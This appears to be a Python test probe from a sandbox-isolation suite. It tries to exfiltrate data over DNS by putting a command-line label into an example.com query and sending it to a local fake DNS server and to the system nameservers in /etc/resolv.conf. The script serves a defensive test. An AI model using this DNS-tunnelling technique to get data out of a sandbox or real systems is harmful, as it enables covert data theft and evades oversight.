# Attack: resolve a name (data exfiltration over DNS): the system resolver for
# "<argv[2]>.example.com", then a hand-built DNS query straight to 127.0.0.1:<argv[1]>, where
# the test runs a fake DNS server, and to each nameserver in /etc/resolv.conf.
# Evidence: the test's fake DNS server receives no query. Control: it receives one.
import socket, struct, sys
port, label = int(sys.argv[1]), sys.argv[2]
try:
    print("RESOLVED", socket.getaddrinfo(label + ".example.com", 80))
except OSError as e:
    print("RESOLVE_FAILED", e)
q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in (label, "example", "com")) + b"\0"
q += struct.pack("!HH", 1, 1)
servers = [("127.0.0.1", port)]
try:
    for line in open("/etc/resolv.conf"):
        if line.startswith("nameserver"):
            servers.append((line.split()[1], 53))
except OSError:
    pass
for server in servers:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(q, server)
        print("QUERY_SENT", server)
    except OSError as e:
        print("DENIED", server, e.errno)
